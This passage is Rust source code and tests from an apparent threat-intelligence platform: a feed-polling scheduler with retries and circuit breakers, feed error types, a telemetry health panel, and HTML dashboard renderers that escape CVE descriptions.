        scheduler.add_source(Box::new(mem("evil.example\n")), Duration::from_millis(10));
        let stats = scheduler.stats();
        let handle = scheduler.start(Duration::from_millis(2));
        std::thread::sleep(Duration::from_millis(80));
        handle.stop();
        let total = collected.lock().unwrap().len();
        assert!(total >= 2, "expected multiple polls, got {total}");
        assert_eq!(
            stats.records_delivered.load(Ordering::Relaxed),
            total as u64
        );
    }

    #[test]
    fn failures_are_counted_and_do_not_stall() {
        let collected = Arc::new(Mutex::new(Vec::new()));
        let sink = Arc::clone(&collected);
        let mut scheduler = FeedScheduler::new(move |records| {
            sink.lock().unwrap().extend(records);
        });
        // Every second fetch fails.
        scheduler.add_source(
            Box::new(FlakySource::new(mem("evil.example\n"), 2)),
            Duration::from_millis(5),
        );
        let stats = scheduler.stats();
        let handle = scheduler.start(Duration::from_millis(2));
        std::thread::sleep(Duration::from_millis(100));
        handle.stop();
        assert!(stats.rounds_failed.load(Ordering::Relaxed) >= 1);
        assert!(stats.rounds_ok.load(Ordering::Relaxed) >= 1);
        assert!(!collected.lock().unwrap().is_empty());
    }

    #[test]
    fn stop_is_prompt() {
        let scheduler = FeedScheduler::new(|_| {});
        let handle = scheduler.start(Duration::from_millis(1));
        let started = Instant::now();
        handle.stop();
        assert!(started.elapsed() < Duration::from_secs(1));
    }
}
