//! Periodic feed polling.
//!
//! The scheduler polls every registered source on its own interval from
//! a single background thread and hands parsed records to a sink
//! callback. Each source sits behind a [`ResilientSource`]: failed
//! fetches are retried with backoff, and sources that keep failing are
//! quarantined by a per-source circuit breaker until a half-open probe
//! succeeds. All waits — the tick and every backoff — go through an
//! interruptible [`StopToken`], so [`SchedulerHandle::stop`] returns
//! promptly even while a source is mid-retry sleep.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use cais_common::resilience::{BreakerTransitions, Sleeper, StopToken};

use crate::resilient::{ResilienceConfig, ResilientSource, RoundOutcome};
use crate::telemetry::FeedIngestMetrics;
use crate::{FeedRecord, FeedSource};

struct Entry {
    source: ResilientSource,
    interval: Duration,
    next_due: Instant,
    reported: BreakerTransitions,
}

/// Aggregate counters for a running scheduler.
#[derive(Debug, Default)]
pub struct SchedulerStats {
    /// Successful fetch+parse rounds.
    pub rounds_ok: AtomicU64,
    /// Failed rounds (fetch or parse, after the retry budget).
    pub rounds_failed: AtomicU64,
    /// Total records delivered to the sink.
    pub records_delivered: AtomicU64,
    /// Retries spent across all sources.
    pub retries: AtomicU64,
    /// Polls skipped because a source's breaker was open.
    pub quarantined_polls: AtomicU64,
    /// Breaker trips (closed/half-open → open) across all sources.
    pub breaker_opened: AtomicU64,
    /// Breaker recoveries (half-open → closed) across all sources.
    pub breaker_closed: AtomicU64,
}

/// Builds and starts a feed-polling loop.
///
/// # Examples
///
/// ```
/// use std::sync::{Arc, Mutex};
/// use std::time::Duration;
/// use cais_feeds::{FeedScheduler, MemorySource, FeedFormat, ThreatCategory};
///
/// let collected = Arc::new(Mutex::new(Vec::new()));
/// let sink = Arc::clone(&collected);
/// let mut scheduler = FeedScheduler::new(move |records| {
///     sink.lock().unwrap().extend(records);
/// });
/// scheduler.add_source(
///     Box::new(MemorySource::new(
///         "feed", FeedFormat::PlainText, ThreatCategory::MalwareDomain,
///         "evil.example\n",
///     )),
///     Duration::from_millis(10),
/// );
/// let handle = scheduler.start(Duration::from_millis(5));
/// std::thread::sleep(Duration::from_millis(60));
/// handle.stop();
/// assert!(!collected.lock().unwrap().is_empty());
/// ```
pub struct FeedScheduler<F> {
    sink: F,
    entries: Vec<Entry>,
    stats: Arc<SchedulerStats>,
    metrics: Option<FeedIngestMetrics>,
    resilience: ResilienceConfig,
    seed: u64,
}

impl<F> FeedScheduler<F>
where
    F: FnMut(Vec<FeedRecord>) + Send + 'static,
{
    /// Creates a scheduler delivering records to `sink`. Resilience
    /// defaults to pass-through (no retries, breaker never trips);
    /// call [`FeedScheduler::configure_resilience`] before adding
    /// sources to enable it.
    pub fn new(sink: F) -> Self {
        FeedScheduler {
            sink,
            entries: Vec::new(),
            stats: Arc::new(SchedulerStats::default()),
            metrics: None,
            resilience: ResilienceConfig::disabled(),
            seed: 0,
        }
    }

    /// Sets the retry/breaker configuration (and the seed for backoff
    /// jitter streams) applied to sources added *after* this call.
    pub fn configure_resilience(&mut self, config: ResilienceConfig, seed: u64) {
        self.resilience = config;
        self.seed = seed;
    }

    /// Attaches telemetry: every round also records the
    /// `feeds_*` counters (rounds, records, errors, retries, breaker
    /// transitions, quarantined polls) and the
    /// `feeds_sources_quarantined` gauge into the registry, alongside
    /// the [`SchedulerStats`] atomics.
    pub fn instrument(&mut self, registry: &cais_telemetry::Registry) {
        self.metrics = Some(FeedIngestMetrics::new(registry));
    }

    /// Registers a source polled every `interval`. The first poll happens
    /// immediately after start.
    pub fn add_source(&mut self, source: Box<dyn FeedSource>, interval: Duration) {
        self.entries.push(Entry {
            source: ResilientSource::new(source, &self.resilience, self.seed),
            interval,
            next_due: Instant::now(),
            reported: BreakerTransitions::default(),
        });
    }

    /// Shared statistics handle (live while the loop runs).
    pub fn stats(&self) -> Arc<SchedulerStats> {
        Arc::clone(&self.stats)
    }

    /// Starts the polling loop on a background thread, checking due
    /// sources every `tick`.
    pub fn start(mut self, tick: Duration) -> SchedulerHandle {
        let stop = StopToken::new();
        let token = stop.clone();
        let stats = Arc::clone(&self.stats);
        let handle = std::thread::Builder::new()
            .name("cais-feed-scheduler".into())
            .spawn(move || {
                'outer: while !token.is_stopped() {
                    let now = Instant::now();
                    for entry in &mut self.entries {
                        if now < entry.next_due {
                            continue;
                        }
                        entry.next_due = now + entry.interval;
                        // Backoff waits ride the stop token, so a stop
                        // mid-ladder interrupts instead of sleeping out
                        // the schedule.
                        let outcome = entry.source.poll(&token);
                        let transitions = entry.source.breaker_transitions();
                        let opened = transitions.opened - entry.reported.opened;
                        let closed = transitions.closed - entry.reported.closed;
                        entry.reported = transitions;
                        stats.breaker_opened.fetch_add(opened, Ordering::Relaxed);
                        stats.breaker_closed.fetch_add(closed, Ordering::Relaxed);
                        if let Some(metrics) = &self.metrics {
                            metrics.observe_breaker(opened, closed);
                        }
                        match outcome {
                            RoundOutcome::Delivered(records) => {
                                stats.rounds_ok.fetch_add(1, Ordering::Relaxed);
                                stats
                                    .records_delivered
                                    .fetch_add(records.len() as u64, Ordering::Relaxed);
                                if let Some(metrics) = &self.metrics {
                                    metrics.observe_round(records.len());
                                }
                                (self.sink)(records);
                            }
                            RoundOutcome::Failed(error) => {
                                stats.rounds_failed.fetch_add(1, Ordering::Relaxed);
                                if let Some(metrics) = &self.metrics {
                                    metrics.observe_error(&error);
                                }
                            }
                            RoundOutcome::Quarantined => {
                                stats.quarantined_polls.fetch_add(1, Ordering::Relaxed);
                                if let Some(metrics) = &self.metrics {
                                    metrics.observe_quarantined_poll();
                                }
                            }
                            RoundOutcome::Interrupted => break 'outer,
                        }
                    }
                    let retries: u64 = self.entries.iter().map(|e| e.source.total_retries()).sum();
                    let previous = stats.retries.swap(retries, Ordering::Relaxed);
                    if let Some(metrics) = &self.metrics {
                        metrics.observe_retries(retries.saturating_sub(previous));
                        let quarantined = self
                            .entries
                            .iter()
                            .filter(|e| e.source.is_quarantined())
                            .count();
                        metrics.set_sources_quarantined(quarantined as u64);
                    }
                    if !token.sleep(tick) {
                        break;
                    }
                }
            })
            .expect("spawn feed scheduler thread");
        SchedulerHandle {
            stop,
            thread: Some(handle),
        }
    }
}

/// Handle controlling a running scheduler; stopping joins the thread.
#[derive(Debug)]
pub struct SchedulerHandle {
    stop: StopToken,
    thread: Option<JoinHandle<()>>,
}

impl SchedulerHandle {
    /// Signals the loop to stop and waits for it to finish. The wait is
    /// prompt even when a source is mid-retry backoff: every sleep in
    /// the loop is interruptible.
    pub fn stop(mut self) {
        self.stop.trigger();
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

impl Drop for SchedulerHandle {
    fn drop(&mut self) {
        self.stop.trigger();
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{FeedFormat, FlakySource, MemorySource, ThreatCategory};
    use cais_common::resilience::{BreakerConfig, FaultKind, FaultPlan, RetryPolicy};
    use std::sync::Mutex;

    fn mem(payload: &str) -> MemorySource {
        MemorySource::new(
            "feed",
            FeedFormat::PlainText,
            ThreatCategory::MalwareDomain,
            payload,
        )
    }

    #[test]
    fn polls_and_delivers() {
        let collected = Arc::new(Mutex::new(Vec::new()));
        let sink = Arc::clone(&collected);
        let mut scheduler = FeedScheduler::new(move |records| {
            sink.lock().unwrap().extend(records);
        });
        scheduler.add_source(Box::new(mem("evil.example\n")), Duration::from_millis(10));
        let stats = scheduler.stats();
        let handle = scheduler.start(Duration::from_millis(2));
        std::thread::sleep(Duration::from_millis(80));
        handle.stop();
        let total = collected.lock().unwrap().len();
        assert!(total >= 2, "expected multiple polls, got {total}");
        assert_eq!(
            stats.records_delivered.load(Ordering::Relaxed),
            total as u64
        );
    }

    #[test]
    fn failures_are_counted_and_do_not_stall() {
        let collected = Arc::new(Mutex::new(Vec::new()));
        let sink = Arc::clone(&collected);
        let mut scheduler = FeedScheduler::new(move |records| {
            sink.lock().unwrap().extend(records);
        });
        // Every second fetch fails; resilience stays pass-through so
        // each failure surfaces as a failed round.
        let plan = FaultPlan::new(0).every_nth("feed:flaky", 2, FaultKind::Error);
        scheduler.add_source(
            Box::new(FlakySource::scripted(
                mem("evil.example\n"),
                plan,
                "feed:flaky",
            )),
            Duration::from_millis(5),
        );
        let stats = scheduler.stats();
        let handle = scheduler.start(Duration::from_millis(2));
        std::thread::sleep(Duration::from_millis(100));
        handle.stop();
        assert!(stats.rounds_failed.load(Ordering::Relaxed) >= 1);
        assert!(stats.rounds_ok.load(Ordering::Relaxed) >= 1);
        assert!(!collected.lock().unwrap().is_empty());
    }

    #[test]
    fn retries_absorb_transient_failures() {
        let collected = Arc::new(Mutex::new(Vec::new()));
        let sink = Arc::clone(&collected);
        let mut scheduler = FeedScheduler::new(move |records| {
            sink.lock().unwrap().extend(records);
        });
        scheduler.configure_resilience(
            ResilienceConfig {
                retry: RetryPolicy::fast(3),
                breaker: BreakerConfig::default(),
            },
            42,
        );
        // Two transient failures per ladder of three attempts: every
        // round recovers within its budget.
        let plan = FaultPlan::new(0).script(
            "feed:transient",
            vec![Some(FaultKind::Error), Some(FaultKind::Error), None],
        );
        scheduler.add_source(
            Box::new(FlakySource::scripted(
                mem("evil.example\n"),
                plan,
                "feed:transient",
            )),
            Duration::from_millis(5),
        );
        let stats = scheduler.stats();
        let handle = scheduler.start(Duration::from_millis(2));
        std::thread::sleep(Duration::from_millis(80));
        handle.stop();
        assert_eq!(stats.rounds_failed.load(Ordering::Relaxed), 0);
        assert!(stats.rounds_ok.load(Ordering::Relaxed) >= 1);
        assert_eq!(stats.retries.load(Ordering::Relaxed), 2);
        assert!(!collected.lock().unwrap().is_empty());
    }

    #[test]
    fn dead_source_is_quarantined() {
        let mut scheduler = FeedScheduler::new(|_| {});
        scheduler.configure_resilience(
            ResilienceConfig {
                retry: RetryPolicy::fast(2),
                breaker: BreakerConfig {
                    trip_after: 2,
                    cooldown_probes: 1_000_000, // stays open for the test
                    half_open_successes: 1,
                },
            },
            42,
        );
        let plan = FaultPlan::new(0).always("feed:dead", FaultKind::Error);
        scheduler.add_source(
            Box::new(FlakySource::scripted(
                mem("evil.example\n"),
                plan,
                "feed:dead",
            )),
            Duration::from_millis(2),
        );
        let stats = scheduler.stats();
        let handle = scheduler.start(Duration::from_millis(1));
        std::thread::sleep(Duration::from_millis(80));
        handle.stop();
        assert_eq!(stats.breaker_opened.load(Ordering::Relaxed), 1);
        assert!(stats.quarantined_polls.load(Ordering::Relaxed) >= 1);
        assert_eq!(stats.rounds_failed.load(Ordering::Relaxed), 2);
    }

    #[test]
    fn stop_is_prompt() {
        let scheduler = FeedScheduler::new(|_| {});
        let handle = scheduler.start(Duration::from_millis(1));
        let started = Instant::now();
        handle.stop();
        assert!(started.elapsed() < Duration::from_secs(1));
    }

    #[test]
    fn stop_interrupts_a_retry_backoff() {
        let mut scheduler = FeedScheduler::new(|_| {});
        scheduler.configure_resilience(
            ResilienceConfig {
                retry: RetryPolicy {
                    max_attempts: 10,
                    base_delay: Duration::from_secs(30),
                    multiplier: 2,
                    max_delay: Duration::from_secs(60),
                    jitter: 0.0,
                },
                breaker: BreakerConfig::disabled(),
            },
            42,
        );
        let plan = FaultPlan::new(0).always("feed:slow", FaultKind::Error);
        scheduler.add_source(
            Box::new(FlakySource::scripted(
                mem("evil.example\n"),
                plan,
                "feed:slow",
            )),
            Duration::from_millis(1),
        );
        let handle = scheduler.start(Duration::from_millis(1));
        // Let the loop enter the 30-second backoff, then stop: the
        // join must not wait out the ladder.
        std::thread::sleep(Duration::from_millis(50));
        let started = Instant::now();
        handle.stop();
        assert!(
            started.elapsed() < Duration::from_secs(5),
            "stop took {:?}",
            started.elapsed()
        );
    }
}
