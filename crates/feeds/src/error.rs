//! Feed ingestion errors.

use std::fmt;

/// Errors produced while fetching or parsing feeds.
#[derive(Debug)]
pub enum FeedError {
    /// The source could not be fetched.
    Fetch {
        /// The source name.
        source_name: String,
        /// Why the fetch failed.
        reason: String,
    },
    /// The payload could not be parsed.
    Parse {
        /// The source name.
        source_name: String,
        /// Line (1-based) where parsing failed, when known.
        line: Option<usize>,
        /// Why parsing failed.
        reason: String,
    },
    /// An underlying I/O error.
    Io(std::io::Error),
}

impl FeedError {
    pub(crate) fn fetch(source_name: &str, reason: impl Into<String>) -> Self {
        FeedError::Fetch {
            source_name: source_name.to_owned(),
            reason: reason.into(),
        }
    }

    pub(crate) fn parse(source_name: &str, line: Option<usize>, reason: impl Into<String>) -> Self {
        FeedError::Parse {
            source_name: source_name.to_owned(),
            line,
            reason: reason.into(),
        }
    }
}

impl fmt::Display for FeedError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            FeedError::Fetch {
                source_name,
                reason,
            } => write!(f, "failed to fetch feed {source_name:?}: {reason}"),
            FeedError::Parse {
                source_name,
                line: Some(line),
                reason,
            } => write!(
                f,
                "failed to parse feed {source_name:?} line {line}: {reason}"
            ),
            FeedError::Parse {
                source_name,
                line: None,
                reason,
            } => write!(f, "failed to parse feed {source_name:?}: {reason}"),
            FeedError::Io(err) => write!(f, "feed I/O error: {err}"),
        }
    }
}

impl std::error::Error for FeedError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            FeedError::Io(err) => Some(err),
            _ => None,
        }
    }
}

impl From<std::io::Error> for FeedError {
    fn from(err: std::io::Error) -> Self {
        FeedError::Io(err)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_includes_context() {
        let e = FeedError::parse("abuse-ch", Some(12), "bad column count");
        let s = e.to_string();
        assert!(s.contains("abuse-ch") && s.contains("12") && s.contains("bad column count"));
    }

    #[test]
    fn is_send_sync() {
        fn check<T: Send + Sync>() {}
        check::<FeedError>();
    }
}
