//! The "platform health" panel: a telemetry snapshot rendered next to
//! the threat dashboard.
//!
//! Where the other renderers draw *what the platform found* (rIoCs,
//! alarms, node badges), this one draws *how the platform is running*:
//! per-stage throughput from the pipeline histograms, bus traffic,
//! MISP mutations, feed errors and dashboard decode failures — all
//! read from a [`cais_telemetry::Snapshot`], the same data the scrape
//! endpoint serves.

use std::collections::BTreeMap;

use cais_telemetry::{label_value, split_labels, Snapshot};
use serde::Serialize;

/// One pipeline stage's health row, reassembled from the labelled
/// `pipeline_stage_*` series.
#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub struct StageHealth {
    /// Stage name (the `stage` label).
    pub stage: String,
    /// Records entering the stage across all rounds.
    pub records_in: u64,
    /// Records surviving the stage across all rounds.
    pub records_out: u64,
    /// Records dropped by the stage across all rounds.
    pub dropped: u64,
    /// Rounds observed (the latency histogram's sample count).
    pub rounds: u64,
    /// Total wall time spent in the stage, nanoseconds.
    pub total_nanos: u64,
    /// Input throughput in records per second, 0 when untimed.
    pub records_per_sec: f64,
}

/// A structured view over a telemetry snapshot, grouped the way an
/// operator reads it. Build with [`HealthPanel::from_snapshot`], render
/// with [`health_ascii`], [`health_html`] or [`health_json`].
#[derive(Debug, Clone, Default, Serialize)]
pub struct HealthPanel {
    /// Per-stage pipeline rows, in snapshot (alphabetical) order.
    pub stages: Vec<StageHealth>,
    /// Unlabelled `pipeline_*` counters (rounds, records, cIoC/eIoC/rIoC totals).
    pub pipeline: BTreeMap<String, u64>,
    /// `bus_*` counters (published/delivered/evicted, per-topic series).
    pub bus: BTreeMap<String, u64>,
    /// `misp_*` counters (store mutations).
    pub misp: BTreeMap<String, u64>,
    /// `feeds_*` counters (rounds, records, fetch/parse errors).
    pub feeds: BTreeMap<String, u64>,
    /// `dashboard_*` counters (applied updates, decode failures).
    pub dashboard: BTreeMap<String, u64>,
    /// `decay_*` counters (rescores, sweeps, expiry/revival flips).
    pub decay: BTreeMap<String, u64>,
    /// Every gauge in the snapshot (queue depths, subscriber counts).
    pub gauges: BTreeMap<String, i64>,
}

impl HealthPanel {
    /// Groups a snapshot into the panel's sections.
    pub fn from_snapshot(snapshot: &Snapshot) -> Self {
        let mut panel = HealthPanel {
            gauges: snapshot.gauges.clone(),
            ..HealthPanel::default()
        };
        let mut stages: BTreeMap<String, StageHealth> = BTreeMap::new();
        fn stage_row<'a>(
            stages: &'a mut BTreeMap<String, StageHealth>,
            stage: &str,
        ) -> &'a mut StageHealth {
            stages
                .entry(stage.to_owned())
                .or_insert_with(|| StageHealth {
                    stage: stage.to_owned(),
                    ..StageHealth::default()
                })
        }
        for (name, &value) in &snapshot.counters {
            let (base, _) = split_labels(name);
            if let Some(stage) = label_value(name, "stage") {
                let row = stage_row(&mut stages, stage);
                match base {
                    "pipeline_stage_records_in_total" => row.records_in = value,
                    "pipeline_stage_records_out_total" => row.records_out = value,
                    "pipeline_stage_dropped_total" => row.dropped = value,
                    _ => {}
                }
                continue;
            }
            let section = match base.split_once('_').map(|(head, _)| head) {
                Some("pipeline") => &mut panel.pipeline,
                Some("bus") => &mut panel.bus,
                Some("misp") => &mut panel.misp,
                Some("feeds") => &mut panel.feeds,
                Some("dashboard") => &mut panel.dashboard,
                Some("decay") => &mut panel.decay,
                _ => continue,
            };
            section.insert(name.clone(), value);
        }
        for (name, histogram) in &snapshot.histograms {
            let (base, _) = split_labels(name);
            if base == "pipeline_stage_nanos" {
                if let Some(stage) = label_value(name, "stage") {
                    let row = stage_row(&mut stages, stage);
                    row.rounds = histogram.count;
                    row.total_nanos = histogram.sum;
                    if histogram.sum > 0 {
                        row.records_per_sec = row.records_in as f64 / (histogram.sum as f64 / 1e9);
                    }
                }
            }
        }
        panel.stages = stages.into_values().collect();
        panel
    }
}

/// Renders the health panel as terminal text, in the dashboard's box
/// style.
pub fn health_ascii(panel: &HealthPanel) -> String {
    let mut out = String::new();
    out.push_str("== CAIS platform health ==\n\n");
    out.push_str("pipeline stages:\n");
    out.push_str(&format!(
        "  {:<14} {:>10} {:>10} {:>8} {:>7} {:>12}\n",
        "stage", "in", "out", "dropped", "rounds", "rec/s"
    ));
    for row in &panel.stages {
        out.push_str(&format!(
            "  {:<14} {:>10} {:>10} {:>8} {:>7} {:>12.0}\n",
            row.stage,
            row.records_in,
            row.records_out,
            row.dropped,
            row.rounds,
            row.records_per_sec,
        ));
    }
    let mut section = |title: &str, counters: &BTreeMap<String, u64>| {
        if counters.is_empty() {
            return;
        }
        out.push_str(&format!("\n{title}:\n"));
        for (name, value) in counters {
            out.push_str(&format!("  {name:<44} {value:>10}\n"));
        }
    };
    section("pipeline totals", &panel.pipeline);
    section("bus", &panel.bus);
    section("misp", &panel.misp);
    section("feeds", &panel.feeds);
    section("dashboard", &panel.dashboard);
    section("decay", &panel.decay);
    if !panel.gauges.is_empty() {
        out.push_str("\ngauges:\n");
        for (name, value) in &panel.gauges {
            out.push_str(&format!("  {name:<44} {value:>10}\n"));
        }
    }
    out
}

/// Renders the health panel as a standalone HTML fragment.
pub fn health_html(panel: &HealthPanel) -> String {
    let mut out = String::new();
    out.push_str("<section class=\"cais-health\">\n<h2>Platform health</h2>\n");
    out.push_str(
        "<table class=\"stages\">\n<tr><th>stage</th><th>in</th><th>out</th>\
                  <th>dropped</th><th>rounds</th><th>rec/s</th></tr>\n",
    );
    for row in &panel.stages {
        out.push_str(&format!(
            "<tr><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td>{:.0}</td></tr>\n",
            escape(&row.stage),
            row.records_in,
            row.records_out,
            row.dropped,
            row.rounds,
            row.records_per_sec,
        ));
    }
    out.push_str("</table>\n");
    let mut section = |title: &str, counters: &BTreeMap<String, u64>| {
        if counters.is_empty() {
            return;
        }
        out.push_str(&format!("<h3>{}</h3>\n<ul>\n", escape(title)));
        for (name, value) in counters {
            out.push_str(&format!(
                "<li><code>{}</code> = {}</li>\n",
                escape(name),
                value
            ));
        }
        out.push_str("</ul>\n");
    };
    section("pipeline totals", &panel.pipeline);
    section("bus", &panel.bus);
    section("misp", &panel.misp);
    section("feeds", &panel.feeds);
    section("dashboard", &panel.dashboard);
    section("decay", &panel.decay);
    if !panel.gauges.is_empty() {
        out.push_str("<h3>gauges</h3>\n<ul>\n");
        for (name, value) in &panel.gauges {
            out.push_str(&format!(
                "<li><code>{}</code> = {}</li>\n",
                escape(name),
                value
            ));
        }
        out.push_str("</ul>\n");
    }
    out.push_str("</section>\n");
    out
}

/// Renders the health panel as pretty-printed JSON.
pub fn health_json(panel: &HealthPanel) -> String {
    serde_json::to_string_pretty(panel).unwrap_or_else(|_| "{}".to_owned())
}

fn escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_telemetry::{labeled, Registry};

    fn populated_registry() -> Registry {
        let registry = Registry::new();
        registry
            .counter(&labeled(
                "pipeline_stage_records_in_total",
                &[("stage", "dedup")],
            ))
            .add(100);
        registry
            .counter(&labeled(
                "pipeline_stage_records_out_total",
                &[("stage", "dedup")],
            ))
            .add(60);
        registry
            .counter(&labeled(
                "pipeline_stage_dropped_total",
                &[("stage", "dedup")],
            ))
            .add(40);
        let nanos = registry.histogram(&labeled("pipeline_stage_nanos", &[("stage", "dedup")]));
        nanos.record(2_000_000_000);
        registry.counter("pipeline_rounds_total").inc();
        registry.counter("bus_published_total").add(7);
        registry.counter("misp_events_inserted_total").add(3);
        registry.counter("feeds_parse_errors_total").add(1);
        registry.counter("dashboard_decode_failures_total").add(2);
        registry.counter("decay_sweeps_total").add(4);
        registry.counter("decay_expired_flips_total").add(9);
        registry
            .gauge(&labeled(
                "bus_queue_depth",
                &[("pattern", "rioc.published")],
            ))
            .set(5);
        registry
    }

    #[test]
    fn panel_groups_snapshot_by_subsystem() {
        let panel = HealthPanel::from_snapshot(&populated_registry().snapshot());
        assert_eq!(panel.stages.len(), 1);
        let dedup = &panel.stages[0];
        assert_eq!(dedup.stage, "dedup");
        assert_eq!(dedup.records_in, 100);
        assert_eq!(dedup.records_out, 60);
        assert_eq!(dedup.dropped, 40);
        assert_eq!(dedup.rounds, 1);
        // 100 records over 2 seconds.
        assert!((dedup.records_per_sec - 50.0).abs() < 1e-9);
        assert_eq!(panel.pipeline["pipeline_rounds_total"], 1);
        assert_eq!(panel.bus["bus_published_total"], 7);
        assert_eq!(panel.misp["misp_events_inserted_total"], 3);
        assert_eq!(panel.feeds["feeds_parse_errors_total"], 1);
        assert_eq!(panel.dashboard["dashboard_decode_failures_total"], 2);
        assert_eq!(panel.decay["decay_sweeps_total"], 4);
        assert_eq!(panel.decay["decay_expired_flips_total"], 9);
        assert_eq!(panel.gauges.len(), 1);
    }

    #[test]
    fn renderers_cover_every_section() {
        let panel = HealthPanel::from_snapshot(&populated_registry().snapshot());
        let text = health_ascii(&panel);
        assert!(text.contains("CAIS platform health"));
        assert!(text.contains("dedup"));
        assert!(text.contains("bus_published_total"));
        assert!(text.contains("dashboard_decode_failures_total"));
        assert!(text.contains("decay_sweeps_total"));
        assert!(text.contains("bus_queue_depth"));

        let html = health_html(&panel);
        assert!(html.contains("<h2>Platform health</h2>"));
        assert!(html.contains("<td>dedup</td>"));
        assert!(html.contains("misp_events_inserted_total"));

        let json: serde_json::Value = serde_json::from_str(&health_json(&panel)).unwrap();
        assert_eq!(json["stages"][0]["records_in"], 100);
        assert_eq!(json["feeds"]["feeds_parse_errors_total"], 1);
    }

    #[test]
    fn empty_snapshot_renders_without_panicking() {
        let panel = HealthPanel::from_snapshot(&Registry::new().snapshot());
        assert!(panel.stages.is_empty());
        assert!(health_ascii(&panel).contains("pipeline stages"));
        assert!(health_html(&panel).contains("cais-health"));
        assert_eq!(
            serde_json::from_str::<serde_json::Value>(&health_json(&panel)).unwrap()["stages"],
            serde_json::json!([])
        );
    }
}
