//! Static HTML rendering of the dashboard (Fig. 2 as a web page).

use crate::issues::SecurityIssue;
use crate::state::DashboardState;

/// Renders the dashboard as a self-contained HTML page.
pub fn html(state: &DashboardState) -> String {
    let mut out = String::from(
        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\">\
         <title>CAIS dashboard</title>\n<style>\n\
         body{font-family:sans-serif;background:#10151c;color:#e8e8e8}\n\
         .node{display:inline-block;border:1px solid #444;border-radius:8px;\
         margin:8px;padding:12px;min-width:170px;position:relative}\n\
         .circle{position:absolute;top:-10px;left:-10px;border-radius:50%;\
         width:34px;height:34px;line-height:34px;text-align:center;color:#000}\n\
         .circle.green{background:#5dbb63}.circle.yellow{background:#e8c547}\
         .circle.red{background:#e05252}\n\
         .star{position:absolute;bottom:-8px;right:-6px;color:#e8c547}\n\
         table{border-collapse:collapse;margin-top:16px}\
         td,th{border:1px solid #444;padding:4px 10px}\n\
         </style></head><body>\n<h1>CAIS dashboard</h1>\n<div class=\"topology\">\n",
    );
    let badges = state.badges();
    for node in state.inventory().nodes() {
        let badge = badges.get(&node.id).copied().unwrap_or_default();
        out.push_str(&format!(
            "<div class=\"node\" id=\"{id}\">\
             <span class=\"circle {color}\">{alarms}</span>\
             <strong>{name}</strong><br>{os} · {nets}\
             <span class=\"star\">★ {riocs}</span></div>\n",
            id = node.id,
            color = badge.circle_color(),
            alarms = badge.alarm_count(),
            name = escape(&node.name),
            os = escape(&node.operating_system),
            nets = escape(&node.networks.join("/")),
            riocs = badge.riocs,
        ));
    }
    out.push_str(
        "</div>\n<h2>Security issues</h2>\n<table><tr>\
                  <th>CVE</th><th>Description</th><th>Application</th>\
                  <th>Nodes</th><th>Threat score</th><th>Priority</th></tr>\n",
    );
    let mut riocs: Vec<_> = state.riocs().iter().collect();
    riocs.sort_by(|a, b| b.threat_score.total_cmp(&a.threat_score));
    for rioc in riocs {
        let issue = SecurityIssue::from_rioc(rioc, state.inventory());
        out.push_str(&format!(
            "<tr><td>{}</td><td>{}</td><td>{}</td><td>{}</td>\
             <td>{:.4}</td><td>{}</td></tr>\n",
            escape(issue.cve.as_deref().unwrap_or("-")),
            escape(&issue.description),
            escape(issue.affected_application.as_deref().unwrap_or("-")),
            escape(&issue.affected_nodes.join(", ")),
            issue.threat_score,
            issue.priority,
        ));
    }
    out.push_str("</table>\n</body></html>\n");
    out
}

fn escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_common::Uuid;
    use cais_core::ReducedIoc;
    use cais_infra::inventory::Inventory;
    use cais_infra::NodeId;

    #[test]
    fn page_contains_nodes_and_issues() {
        let mut state = DashboardState::new(Inventory::paper_table3());
        state.apply_rioc(ReducedIoc {
            id: Uuid::new_v4(),
            cve: Some("CVE-2017-9805".into()),
            description: "struts <RCE>".into(),
            affected_application: Some("apache".into()),
            threat_score: 2.7406,
            criteria: None,
            nodes: vec![NodeId(4)],
            via_common_keyword: false,
            misp_event_id: None,
        });
        let page = html(&state);
        assert!(page.contains("<strong>OwnCloud</strong>"));
        assert!(page.contains("CVE-2017-9805"));
        assert!(page.contains("2.7406"));
        // HTML in descriptions is escaped.
        assert!(page.contains("struts &lt;RCE&gt;"));
        assert!(!page.contains("struts <RCE>"));
    }

    #[test]
    fn escape_covers_special_characters() {
        assert_eq!(escape("a<b>&\"c\""), "a&lt;b&gt;&amp;&quot;c&quot;");
    }
}
