//! Renderers of the dashboard state.

mod ascii;
mod federation;
mod health;
mod html;
mod json;
mod latency;
mod search;

pub use ascii::ascii;
pub use federation::{federation_ascii, federation_html, federation_json, FederationPanel};
pub use health::{health_ascii, health_html, health_json, HealthPanel, StageHealth};
pub use html::html;
pub use json::json;
pub use latency::{
    latency_ascii, latency_html, latency_json, LatencyPanel, ServingLatency, StageLatency,
};
pub use search::{search_ascii, search_html, search_json, SearchPanel};
