//! Renderers of the dashboard state.

mod ascii;
mod health;
mod html;
mod json;

pub use ascii::ascii;
pub use health::{health_ascii, health_html, health_json, HealthPanel, StageHealth};
pub use html::html;
pub use json::json;
