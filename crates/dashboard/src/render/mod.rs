//! Renderers of the dashboard state.

mod ascii;
mod html;
mod json;

pub use ascii::ascii;
pub use html::html;
pub use json::json;
