//! The "search" panel: inverted-index health and query latency
//! rendered next to the threat dashboard.
//!
//! Reassembles the `search_*` metric family emitted by `cais-search`
//! (query counts and hit totals, parse errors, index sync/rebuild
//! activity, index size, and the `search_query_nanos` latency
//! histogram) from a [`cais_telemetry::Snapshot`] — the view an
//! operator reads to answer: are analysts' queries fast, is the index
